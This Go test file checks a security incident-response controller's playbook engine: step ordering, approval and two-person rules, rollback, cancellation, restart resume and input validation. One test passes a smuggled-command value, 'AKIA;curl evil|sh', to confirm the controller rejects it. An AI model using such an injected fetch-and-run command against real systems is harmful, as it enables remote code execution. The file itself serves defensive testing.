package playbookrun_test

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/sdk/trace/tracetest"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/firebreak-ir/firebreak/controller"
	"github.com/firebreak-ir/firebreak/controller/cases"
	"github.com/firebreak-ir/firebreak/controller/playbookrun"
	"github.com/firebreak-ir/firebreak/controller/playbookrun/playbookruntest"
	"github.com/firebreak-ir/firebreak/plugins/sdk"
	operatorv1 "github.com/firebreak-ir/firebreak/proto/gen/firebreak/operator/v1"
)

// fleet is a controller with host agents running the "record" action.
type fleet struct {
	c      *playbookruntest.Controller
	rec    *playbookruntest.Recorder
	agents []*playbookruntest.Agent
	dir    string
}

func newFleet(t *testing.T, hosts int, playbooks map[string]string) *fleet {
	t.Helper()
	dir := t.TempDir()
	for name, y := range playbooks {
		playbookruntest.WritePlaybook(t, dir, name, y)
	}
	f := &fleet{rec: &playbookruntest.Recorder{Name: "record", RollbackAction: "record"}, dir: dir}
	f.c = playbookruntest.StartController(t, playbookruntest.Options{Incident: controller.IncidentConfig{PlaybookDir: dir}})
	for i := range hosts {
		f.agents = append(f.agents, f.c.StartAgent(t, playbookruntest.AgentOptions{Name: fmt.Sprintf("host-%d", i),
			Labels: map[string]string{"n": fmt.Sprint(i)}, Actions: []sdk.Action{f.rec}}))
	}
	f.c.WaitConnected(t, f.agents...)
	return f
}

func (f *fleet) start(t *testing.T, name string, inputs map[string]any) *playbookrun.Run {
	t.Helper()
	r, _, err := f.c.Playbooks.Start(playbookruntest.Admin(context.Background()), playbookrun.StartRequest{Playbook: name, Inputs: inputs, CreatedBy: "alice"})
	if err != nil {
		t.Fatalf("starting %s: %v", name, err)
	}
	return r
}

func (f *fleet) wait(t *testing.T, id string) *playbookrun.Run {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r, err := f.c.Playbooks.Wait(ctx, id)
	if err != nil {
		t.Fatalf("waiting for %s: %v", id, err)
	}
	return r
}

func stepStatuses(r *playbookrun.Run) map[string]playbookrun.StepStatus {
	out := map[string]playbookrun.StepStatus{}
	for _, s := range r.Steps {
		out[s.ID] = s.Status
	}
	return out
}

const header = `apiVersion: firebreak/v1
kind: Playbook
metadata:
  name: %s
  version: 1
`

func pb(name, body string) string { return fmt.Sprintf(header, name) + body }

func TestStepsRunInDependencyOrderWithOutputs(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"diamond": pb("diamond", `
inputs:
  - {name: tag, type: string, required: true}
steps:
  - id: a
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: a, value: "${{ inputs.tag }}"}
  - id: b
    needs: [a]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: b, value: "${{ steps.a.outputs.value }}-b"}
  - id: c
    needs: [a]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: c}
  - id: d
    needs: [b, c]
    phase: eradicate
    action: record
    targets: {selector: role=host}
    params: {mark: d, value: "${{ steps.b.outputs.value }}+${{ steps.c.outputs.mark }}"}
`)})
	r := f.wait(t, f.start(t, "diamond", map[string]any{"tag": "t1"}).ID)
	if r.Status != playbookrun.StatusSucceeded {
		t.Fatalf("status %s (%s)", r.Status, r.Error)
	}
	marks := f.rec.Marks()
	if len(marks) != 4 || marks[0] != "a" || marks[3] != "d" || !slices.Contains(marks, "b") || !slices.Contains(marks, "c") {
		t.Fatalf("executions %v: want a, then b and c, then d", marks)
	}
	if got := r.Step("d").Outputs["value"]; got != "t1-b+c" {
		t.Errorf("d's value %v: want the outputs of b and c, t1-b+c", got)
	}
	// Every step is on the case timeline with its phase, and the case moved
	// forward through the phases.
	c, err := f.c.Cases.Get(context.Background(), r.CaseID)
	if err != nil {
		t.Fatal(err)
	}
	if c.Phase != "eradicate" || !c.Contained() {
		t.Errorf("case phase %s contained %v: want eradicate and contained", c.Phase, c.Contained())
	}
	tl, err := f.c.Cases.Timeline(context.Background(), r.CaseID)
	if err != nil {
		t.Fatal(err)
	}
	ended := map[string]string{}
	for _, e := range tl {
		if e.Kind == cases.KindStep && e.Status == cases.EntrySucceeded {
			ended[e.StepID] = string(e.Phase)
		}
	}
	want := map[string]string{"a": "analyze", "b": "contain", "c": "contain", "d": "eradicate"}
	for id, ph := range want {
		if ended[id] != ph {
			t.Errorf("timeline: step %s ended in phase %q, want %q (%v)", id, ended[id], ph, ended)
		}
	}
}

func TestWhenConditionSkipsAndDependentsSeeStatus(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"cond": pb("cond", `
inputs:
  - {name: deep, type: bool, default: false}
steps:
  - id: quick
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: quick}
  - id: deep
    needs: [quick]
    phase: analyze
    action: record
    when: ${{ inputs.deep }}
    targets: {selector: role=host}
    params: {mark: deep}
  - id: after
    needs: [deep]
    phase: contain
    action: record
    when: ${{ steps.deep.status == 'skipped' }}
    targets: {selector: role=host}
    params: {mark: after}
`)})
	r := f.wait(t, f.start(t, "cond", nil).ID)
	st := stepStatuses(r)
	if r.Status != playbookrun.StatusSucceeded || st["deep"] != playbookrun.StepSkipped || st["after"] != playbookrun.StepSucceeded {
		t.Fatalf("status %s steps %v: want deep skipped and after run", r.Status, st)
	}
	if got := f.rec.Marks(); !slices.Equal(got, []string{"quick", "after"}) {
		t.Fatalf("executions %v, want [quick after]", got)
	}
}

func TestApprovalRequiredStepWaitsForAnotherOperator(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"gate": pb("gate", `
steps:
  - id: look
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: look}
  - id: act
    needs: [look]
    phase: contain
    action: record
    approval: required
    targets: {selector: role=host}
    params: {mark: act}
`)})
	r := f.start(t, "gate", nil)
	ctx := context.Background()
	var runID string
	playbookruntest.WaitFor(t, 30*time.Second, "step act to await approval", func() bool {
		cur, err := f.c.Playbooks.Get(ctx, r.ID)
		if err != nil {
			t.Fatal(err)
		}
		s := cur.Step("act")
		runID = s.RunID
		return s.Status == playbookrun.StepAwaitingApproval
	})
	if n := f.rec.Count("act"); n != 0 {
		t.Fatalf("act ran %d times before approval", n)
	}
	// alice started the playbook: the step's run is hers too, and the
	// two-person rule keeps her from approving it.
	if _, err := f.c.Operator.ApproveRun(playbookruntest.As(ctx, "alice", operatorv1.OperatorRole_OPERATOR_ROLE_APPROVER),
		&operatorv1.ApproveRunRequest{RunId: runID}); status.Code(err) != codes.PermissionDenied {
		t.Fatalf("alice approving the step of her own playbook: %v", err)
	}
	if got, err := f.c.Operator.GetRun(ctx, &operatorv1.GetRunRequest{RunId: runID}); err != nil || got.GetRun().GetOnBehalfOf() != "alice" ||
		got.GetRun().GetCreatedBy() != "playbook:gate" {
		t.Fatalf("the step's run was created by %q for %q (%v)", got.GetRun().GetCreatedBy(), got.GetRun().GetOnBehalfOf(), err)
	}
	if _, err := f.c.Operator.ApproveRun(playbookruntest.As(ctx, "bob", operatorv1.OperatorRole_OPERATOR_ROLE_APPROVER),
		&operatorv1.ApproveRunRequest{RunId: runID, Comment: "go"}); err != nil {
		t.Fatalf("approving: %v", err)
	}
	done := f.wait(t, r.ID)
	if done.Status != playbookrun.StatusSucceeded || f.rec.Count("act") != 1 {
		t.Fatalf("status %s, act ran %d times", done.Status, f.rec.Count("act"))
	}
	tl, _ := f.c.Cases.Timeline(ctx, done.CaseID)
	approved := slices.ContainsFunc(tl, func(e *cases.Entry) bool {
		return e.Kind == cases.KindApproval && e.Actor == "bob" && e.RunID == runID && e.Status == "approved"
	})
	if !approved {
		t.Errorf("the approval of %s by bob is not on the timeline", runID)
	}
}

const rollbackPlaybook = `
inputs:
  - {name: fail_at, type: string, default: third}
steps:
  - id: first
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: first, fail: "${{ inputs.fail_at == 'first' }}"}
    on_failure: rollback
    rollback:
      action: record
      params: {mark: "undo-first", value: "${{ steps.first.outputs.mark }}"}
  - id: second
    needs: [first]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: second}
    rollback:
      action: record
      params: {mark: "undo-second"}
  - id: no_undo
    needs: [second]
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: no_undo}
  - id: third
    needs: [no_undo]
    phase: eradicate
    action: record
    targets: {selector: role=host}
    params: {mark: third, fail: "${{ inputs.fail_at == 'third' }}"}
    on_failure: rollback
    rollback:
      action: record
      params: {mark: "undo-third"}
  - id: never
    needs: [third]
    phase: recover
    action: record
    targets: {selector: role=host}
    params: {mark: never}
`

func TestFailureRollsBackCompletedStepsInReverseOrder(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"undo": pb("undo", rollbackPlaybook)})
	r := f.wait(t, f.start(t, "undo", nil).ID)
	if r.Status != playbookrun.StatusRolledBack {
		t.Fatalf("status %s (%s), want rolled_back", r.Status, r.Error)
	}
	want := []string{"first", "second", "no_undo", "third", "undo-second", "undo-first"}
	if got := f.rec.Marks(); !slices.Equal(got, want) {
		t.Fatalf("executions %v, want %v (third failed on every target: nothing of it to undo)", got, want)
	}
	st := stepStatuses(r)
	if st["third"] != playbookrun.StepFailed || st["never"] != playbookrun.StepCancelled {
		t.Errorf("steps %v: want third failed and never cancelled", st)
	}
	if rb := r.Step("first").Rollback; rb == nil || rb.Status != playbookrun.StepSucceeded {
		t.Errorf("first's rollback %+v", rb)
	}
	// What was undone does not count as containment.
	c, err := f.c.Cases.Get(context.Background(), r.CaseID)
	if err != nil {
		t.Fatal(err)
	}
	if c.Contained() {
		t.Errorf("the case counts as contained at %s although every contain step was rolled back", c.Timings.ContainedAt)
	}
}

func TestFailurePolicies(t *testing.T) {
	tests := []struct {
		policy     string
		wantStatus playbookrun.Status
		wantMarks  []string
		wantAfter  playbookrun.StepStatus
	}{
		{"continue", playbookrun.StatusSucceeded, []string{"boom", "after"}, playbookrun.StepSucceeded},
		{"stop", playbookrun.StatusFailed, []string{"boom"}, playbookrun.StepCancelled},
	}
	for _, tt := range tests {
		t.Run(tt.policy, func(t *testing.T) {
			f := newFleet(t, 1, map[string]string{"p": pb("p", `
steps:
  - id: boom
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: boom, fail: true}
    on_failure: `+tt.policy+`
  - id: after
    needs: [boom]
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: after}
`)})
			r := f.wait(t, f.start(t, "p", nil).ID)
			if r.Status != tt.wantStatus || !slices.Equal(f.rec.Marks(), tt.wantMarks) || r.Step("after").Status != tt.wantAfter {
				t.Fatalf("status %s, executions %v, after %s; want %s, %v, %s", r.Status, f.rec.Marks(), r.Step("after").Status,
					tt.wantStatus, tt.wantMarks, tt.wantAfter)
			}
			if !strings.Contains(r.Step("boom").Error, "asked to fail") {
				t.Errorf("boom's error %q does not say why", r.Step("boom").Error)
			}
		})
	}
}

func TestStepMatchingNoAgentFails(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"nowhere": pb("nowhere", `
steps:
  - id: lost
    phase: contain
    action: record
    targets: {selector: hostname=no-such-host}
    params: {mark: lost}
`)})
	r := f.wait(t, f.start(t, "nowhere", nil).ID)
	if r.Status != playbookrun.StatusFailed || !strings.Contains(r.Step("lost").Error, "matches no enrolled agent") {
		t.Fatalf("status %s, step error %q", r.Status, r.Step("lost").Error)
	}
}

func TestRollbackRunsPerTargetWithThatTargetsOutput(t *testing.T) {
	f := newFleet(t, 2, map[string]string{"wide": pb("wide", `
steps:
  - id: isolate
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: isolate}
    rollback:
      action: record
      params: {mark: "undo-${{ steps.isolate.outputs.agent_id }}"}
  - id: fail
    needs: [isolate]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: fail, fail: true}
    on_failure: rollback
`)})
	r := f.wait(t, f.start(t, "wide", nil).ID)
	if r.Status != playbookrun.StatusRolledBack {
		t.Fatalf("status %s (%s)", r.Status, r.Error)
	}
	// The multi-target outputs are a list of targets.
	if targets, ok := r.Step("isolate").Outputs["targets"].([]any); !ok || len(targets) != 2 {
		t.Fatalf("isolate's outputs %v: want two targets", r.Step("isolate").Outputs)
	}
	for _, c := range f.rec.Calls() {
		if strings.HasPrefix(c.Mark, "undo-") && c.Mark != "undo-"+c.AgentID {
			t.Errorf("agent %s ran rollback %q: a target's rollback must run on it with its own output", c.AgentID, c.Mark)
		}
	}
	for _, a := range f.agents {
		if n := f.rec.Count("undo-" + a.ID()); n != 1 {
			t.Errorf("agent %s was rolled back %d times, want 1", a.ID(), n)
		}
	}
	if rb := r.Step("isolate").Rollback; rb == nil || len(rb.Targets) != 2 {
		t.Fatalf("rollback %+v: want one run per target", rb)
	}
	// The case's report shows each rollback run as the rollback of its step.
	rep, err := f.c.Cases.Report(context.Background(), r.CaseID)
	if err != nil {
		t.Fatal(err)
	}
	rollbacks := 0
	for _, a := range rep.Actions {
		if a.Rollback && a.StepID == "isolate" {
			rollbacks++
		}
		if a.StepID == "" {
			t.Errorf("run %s is not attributed to a step", a.RunID)
		}
	}
	if rollbacks != 2 {
		t.Errorf("the report shows %d rollback runs of isolate, want 2", rollbacks)
	}
}

func TestProposedRunNeedsAnotherOperatorsApproval(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"prop": pb("prop", `
steps:
  - id: only
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: only}
`)})
	ctx := context.Background()
	start := func() *playbookrun.Run {
		r, _, err := f.c.Playbooks.Start(ctx, playbookrun.StartRequest{Playbook: "prop", CreatedBy: "rule:test", RequireApproval: true})
		if err != nil {
			t.Fatal(err)
		}
		if r.Status != playbookrun.StatusAwaitingApproval {
			t.Fatalf("status %s, want awaiting_approval", r.Status)
		}
		return r
	}
	r := start()
	if _, err := f.c.Playbooks.Approve(ctx, r.ID, "rule:test", ""); !errors.Is(err, playbookrun.ErrSelfApproval) {
		t.Fatalf("self-approval: %v", err)
	}
	if _, err := f.c.Playbooks.Approve(ctx, r.ID, "bob", "ok"); err != nil {
		t.Fatal(err)
	}
	if _, err := f.c.Playbooks.Approve(ctx, r.ID, "carol", "again"); !errors.Is(err, playbookrun.ErrNotAwaiting) {
		t.Fatalf("second approval: %v", err)
	}
	done := f.wait(t, r.ID)
	if done.Status != playbookrun.StatusSucceeded || done.ApprovedBy != "bob" || f.rec.Count("only") != 1 {
		t.Fatalf("status %s approved by %q, ran %d", done.Status, done.ApprovedBy, f.rec.Count("only"))
	}
	rejected := start()
	out, err := f.c.Playbooks.Reject(ctx, rejected.ID, "bob", "false positive")
	if err != nil || out.Status != playbookrun.StatusRejected {
		t.Fatalf("reject: %v %v", out, err)
	}
	if f.rec.Count("only") != 1 {
		t.Fatalf("a rejected playbook run ran")
	}
}

func TestCancelStopsInFlightAndPendingSteps(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"long": pb("long", `
steps:
  - id: slow
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: slow, delay: 30s}
  - id: later
    needs: [slow]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: later}
`)})
	r := f.start(t, "long", nil)
	playbookruntest.WaitFor(t, 30*time.Second, "the slow step to run", func() bool { return f.rec.Count("slow") == 1 })
	if _, err := f.c.Playbooks.Cancel(context.Background(), r.ID, "bob", "drill over"); err != nil {
		t.Fatal(err)
	}
	done := f.wait(t, r.ID)
	st := stepStatuses(done)
	if done.Status != playbookrun.StatusCancelled || st["slow"] != playbookrun.StepCancelled || st["later"] != playbookrun.StepCancelled {
		t.Fatalf("status %s steps %v", done.Status, st)
	}
	if f.rec.Count("later") != 0 {
		t.Fatal("a step ran after the cancellation")
	}
}

func TestControllerRestartResumesWithoutRunningAStepTwice(t *testing.T) {
	rec := recordSpans(t)
	f := newFleet(t, 1, map[string]string{"resume": pb("resume", `
steps:
  - id: first
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: first}
  - id: slow
    needs: [first]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: slow, delay: 2s}
  - id: last
    needs: [slow]
    phase: eradicate
    action: record
    targets: {selector: role=host}
    params: {mark: last}
`)})
	r := f.start(t, "resume", nil)
	var slowRun string
	playbookruntest.WaitFor(t, 30*time.Second, "the slow step to be running", func() bool {
		cur, err := f.c.Playbooks.Get(context.Background(), r.ID)
		if err != nil {
			t.Fatal(err)
		}
		slowRun = cur.Step("slow").RunID
		return slowRun != "" && f.rec.Count("slow") == 1
	})
	f.c.Stop(t)

	// Make it look like the controller died after creating the slow step's
	// run but before recording its id: the restarted executor must find the
	// run by its token instead of creating another.
	st, err := sql.Open("sqlite", "file:"+filepath.Join(f.c.DataDir, controller.DatabaseFile))
	if err != nil {
		t.Fatal(err)
	}
	res, err := st.Exec(`UPDATE playbook_steps SET run_id = '', status = ? WHERE playbook_run_id = ? AND step_id = 'slow'`,
		string(playbookrun.StepSubmitting), r.ID)
	if n, _ := rowsAffected(res, err); n != 1 {
		t.Fatalf("rewinding the step: %v", err)
	}
	st.Close()

	c2 := playbookruntest.StartController(t, playbookruntest.Options{DataDir: f.c.DataDir, Listen: f.c.Addr,
		Incident: controller.IncidentConfig{PlaybookDir: f.dir}})
	f.c = c2
	done := f.wait(t, r.ID)
	if done.Status != playbookrun.StatusSucceeded {
		t.Fatalf("status %s (%s)", done.Status, done.Error)
	}
	for _, m := range []string{"first", "slow", "last"} {
		if n := f.rec.Count(m); n != 1 {
			t.Errorf("step %s ran %d times, want once", m, n)
		}
	}
	if got := done.Step("slow").RunID; got != slowRun {
		t.Errorf("the slow step follows run %s after the restart, want the run it created before, %s", got, slowRun)
	}
	runs, err := c2.Store.ListRuns(context.Background(), 100)
	if err != nil {
		t.Fatal(err)
	}
	if len(runs) != 3 {
		t.Errorf("%d runs exist, want one per step (3)", len(runs))
	}
	checkResumedTrace(t, rec, r.ID)
}

// checkResumedTrace: the resumed playbook run continues its stored trace.
// The step in flight at the stop has a span ended as interrupted and a
// new one marked resumed, both children of the run's playbook.start span.
func checkResumedTrace(t *testing.T, rec *tracetest.SpanRecorder, runID string) {
	t.Helper()
	var start sdktrace.ReadOnlySpan
	for _, s := range rec.Ended() {
		if s.Name() == "playbook.start" && attr(s, "firebreak.playbook.run.id") == runID {
			start = s
		}
	}
	if start == nil {
		t.Fatalf("no playbook.start span for %s", runID)
	}
	var interrupted, resumed int
	for _, s := range spansNamed(rec, "playbook.step", start.SpanContext().TraceID()) {
		if s.Parent().SpanID() != start.SpanContext().SpanID() {
			t.Errorf("step %s's span is not a child of the run's playbook.start", attr(s, "firebreak.playbook.step"))
		}
		if attr(s, "firebreak.playbook.step") != "slow" {
			continue
		}
		if attr(s, "firebreak.playbook.step.interrupted") == "true" {
			interrupted++
		}
		if attr(s, "firebreak.playbook.step.resumed") == "true" && attr(s, "firebreak.playbook.step.status") == "succeeded" {
			resumed++
		}
	}
	if interrupted != 1 || resumed != 1 {
		t.Errorf("the slow step's spans in the run's trace: %d interrupted and %d resumed, want one of each", interrupted, resumed)
	}
}

func rowsAffected(res sql.Result, err error) (int64, error) {
	if err != nil {
		return 0, err
	}
	return res.RowsAffected()
}

func TestDryRunChangesNothing(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"plan": pb("plan", `
inputs:
  - {name: target, type: string, required: true}
steps:
  - id: one
    phase: contain
    action: record
    targets: {selector: "hostname=${{ inputs.target }}"}
    params: {mark: one}
  - id: two
    needs: [one]
    phase: contain
    action: record
    targets: {selector: role=host}
    params: {mark: "${{ steps.one.outputs.mark }}"}
`)})
	_, plan, err := f.c.Playbooks.Start(context.Background(), playbookrun.StartRequest{Playbook: "plan", Inputs: map[string]any{"target": "host-0"},
		CreatedBy: "alice", DryRun: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Steps) != 2 || plan.Steps[0].Selector != "hostname=host-0" || !slices.Contains(plan.Steps[1].Pending, "params.mark") {
		t.Fatalf("plan %+v", plan)
	}
	runs, _ := f.c.Playbooks.List(context.Background(), playbookrun.ListOptions{})
	cs, _ := f.c.Cases.List(context.Background(), cases.ListOptions{})
	if len(runs) != 0 || len(cs) != 0 || len(f.rec.Calls()) != 0 {
		t.Fatalf("a dry run left %d playbook runs, %d cases and %d executions", len(runs), len(cs), len(f.rec.Calls()))
	}
}

func TestStartRefusals(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"ok": pb("ok", `
inputs:
  - {name: n, type: int, required: true}
steps:
  - id: s
    phase: contain
    action: record
    targets: {selector: role=host}
`), "bad": pb("bad", `
steps:
  - id: s
    phase: contain
    action: no-such-action
    targets: {selector: role=host}
`)})
	ctx := context.Background()
	closed, err := f.c.Cases.Create(ctx, cases.NewCase{Title: "old", CreatedBy: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.c.Cases.Close(ctx, closed.ID, "alice", ""); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		req  playbookrun.StartRequest
		want error
	}{
		{"unknown playbook", playbookrun.StartRequest{Playbook: "nope"}, playbookrun.ErrUnknownPlaybook},
		{"unknown action", playbookrun.StartRequest{Playbook: "bad"}, playbookrun.ErrInvalid},
		{"missing input", playbookrun.StartRequest{Playbook: "ok"}, playbookrun.ErrInputs},
		{"bad input", playbookrun.StartRequest{Playbook: "ok", Inputs: map[string]any{"n": "many"}}, playbookrun.ErrInputs},
		{"unknown case", playbookrun.StartRequest{Playbook: "ok", Inputs: map[string]any{"n": "1"}, CaseID: "case-nope"}, playbookrun.ErrCaseNotFound},
		{"closed case", playbookrun.StartRequest{Playbook: "ok", Inputs: map[string]any{"n": "1"}, CaseID: closed.ID}, playbookrun.ErrCaseClosed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.req.CreatedBy = "alice"
			if _, _, err := f.c.Playbooks.Start(ctx, tt.req); !errors.Is(err, tt.want) {
				t.Fatalf("error %v, want %v", err, tt.want)
			}
		})
	}
}

// TestRuleProposedPlaybookKeepsTheTwoPersonRule is the attack of issue 11
// (finding 2): a rule proposes a playbook whose step needs approval; the
// operator who approves the playbook run cannot approve the step's run too.
// The step runs on behalf of that approver, and a second approver starts it.
func TestRuleProposedPlaybookKeepsTheTwoPersonRule(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"gate": pb("gate", `
steps:
  - id: act
    phase: contain
    action: record
    approval: required
    targets: {selector: role=host}
    params: {mark: act}
`)})
	ctx := context.Background()
	r, _, err := f.c.Playbooks.Start(ctx, playbookrun.StartRequest{Playbook: "gate", CreatedBy: "rule:gate-rule", Rule: "gate-rule", RequireApproval: true})
	if err != nil {
		t.Fatal(err)
	}
	bob := playbookruntest.As(ctx, "bob", operatorv1.OperatorRole_OPERATOR_ROLE_APPROVER)
	if _, err := playbookrun.NewServer(f.c.Playbooks).ApprovePlaybookRun(bob, &operatorv1.ApprovePlaybookRunRequest{PlaybookRunId: r.ID}); err != nil {
		t.Fatalf("bob approving the proposed playbook run: %v", err)
	}
	var runID string
	playbookruntest.WaitFor(t, 30*time.Second, "step act to await approval", func() bool {
		cur, err := f.c.Playbooks.Get(ctx, r.ID)
		if err != nil {
			t.Fatal(err)
		}
		runID = cur.Step("act").RunID
		return cur.Step("act").Status == playbookrun.StepAwaitingApproval
	})
	got, err := f.c.Operator.GetRun(ctx, &operatorv1.GetRunRequest{RunId: runID})
	if err != nil || got.GetRun().GetOnBehalfOf() != "bob" || got.GetRun().GetCreatedBy() != "playbook:gate" {
		t.Fatalf("the step's run was created by %q for %q (%v), want playbook:gate for bob", got.GetRun().GetCreatedBy(), got.GetRun().GetOnBehalfOf(), err)
	}
	_, err = f.c.Operator.ApproveRun(bob, &operatorv1.ApproveRunRequest{RunId: runID})
	if status.Code(err) != codes.PermissionDenied || !strings.Contains(err.Error(), "playbook:gate created it on behalf of bob") {
		t.Fatalf("bob approving the step of the playbook run he approved: %v", err)
	}
	if n := f.rec.Count("act"); n != 0 {
		t.Fatalf("act ran %d times after bob's refused approval", n)
	}
	carol := playbookruntest.As(ctx, "carol", operatorv1.OperatorRole_OPERATOR_ROLE_APPROVER)
	if _, err := f.c.Operator.ApproveRun(carol, &operatorv1.ApproveRunRequest{RunId: runID}); err != nil {
		t.Fatalf("carol approving: %v", err)
	}
	if done := f.wait(t, r.ID); done.Status != playbookrun.StatusSucceeded || done.ApprovedBy != "bob" || f.rec.Count("act") != 1 {
		t.Fatalf("status %s approved by %q, act ran %d times", done.Status, done.ApprovedBy, f.rec.Count("act"))
	}
	tl, _ := f.c.Cases.Timeline(ctx, r.CaseID)
	if !slices.ContainsFunc(tl, func(e *cases.Entry) bool {
		return e.Kind == cases.KindStep && e.StepID == "act" && strings.Contains(e.Summary, "by an operator other than bob")
	}) {
		t.Error("the timeline does not say bob may not approve the step")
	}
}

// TestRunStartedThroughAnotherControllerIsExecuted starts a playbook run
// through an executor that is not running, as a controller that does not
// hold the playbook executor's lease has: the run is only stored, and the
// running executor, which holds the lease, finds it and executes it.
func TestRunStartedThroughAnotherControllerIsExecuted(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"one": pb("one", `
steps:
  - id: a
    phase: analyze
    action: record
    targets: {selector: role=host}
    params: {mark: elsewhere}
`)})
	c := f.c.Controller
	other, err := playbookrun.New(playbookrun.Config{Store: c.Store, Library: &playbookrun.Library{Dir: f.dir}, Cases: c.Cases,
		Planner: c.Planner, Actions: c.Operator, KnownActions: playbookrun.Catalog(c.Actions.Descriptions()), Watcher: c.Dispatcher,
		RunStore: c.Store})
	if err != nil {
		t.Fatal(err)
	}
	started, _, err := other.Start(playbookruntest.Admin(context.Background()), playbookrun.StartRequest{Playbook: "one", CreatedBy: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	r := f.wait(t, started.ID)
	if r.Status != playbookrun.StatusSucceeded {
		t.Fatalf("status %s (%s)", r.Status, r.Error)
	}
	if marks := f.rec.Marks(); len(marks) != 1 {
		t.Fatalf("the step ran %d times: %v", len(marks), marks)
	}
}

// TestOperationStepsRefuseHostileInputsBeforeAnyRun: operation steps run
// on the controller through the eradication service; a key or plan from
// the inputs (or a finding) that is not one fails its step with the
// reason, and no run is created.
func TestOperationStepsRefuseHostileInputsBeforeAnyRun(t *testing.T) {
	f := newFleet(t, 1, map[string]string{"ops": pb("ops", `
inputs:
  - {name: key, type: string, required: true}
  - {name: plan, type: string, required: true}
steps:
  - id: scope
    phase: analyze
    operation: credential-scope
    params: {access_key_id: "${{ inputs.key }}"}
    on_failure: continue
  - id: plan
    needs: [scope]
    phase: eradicate
    operation: eradication-plan
    on_failure: continue
  - id: eradicate
    needs: [plan]
    phase: eradicate
    operation: eradicate
    approval: required
    params: {plan_id: "${{ inputs.plan }}"}
    on_failure: continue
`)})
	r := f.wait(t, f.start(t, "ops", map[string]any{"key": "AKIA;curl evil|sh", "plan": "erp-nope"}).ID)
	want := map[string]string{
		"scope":     `invalid operation: "AKIA;curl evil|sh" is not an AWS access key id (AKIA… or ASIA…)`,
		"plan":      "has no scope with attacker artifacts",
		"eradicate": "reading plan erp-nope: not found",
	}
	for id, w := range want {
		st := r.Step(id)
		if st.Status != playbookrun.StepFailed || !strings.Contains(st.Error, w) {
			t.Errorf("step %s: %s %q, want failed saying %q", id, st.Status, st.Error, w)
		}
		if st.RunID != "" || st.Action != "operation:"+map[string]string{"scope": "credential-scope", "plan": "eradication-plan", "eradicate": "eradicate"}[id] {
			t.Errorf("step %s: action %q run %q; want the operation and no run", id, st.Action, st.RunID)
		}
	}
	list, err := f.c.Operator.ListRuns(playbookruntest.Admin(context.Background()), &operatorv1.ListRunsRequest{})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(list.GetRuns()); n != 0 {
		t.Fatalf("%d run(s) created: want none", n)
	}
}
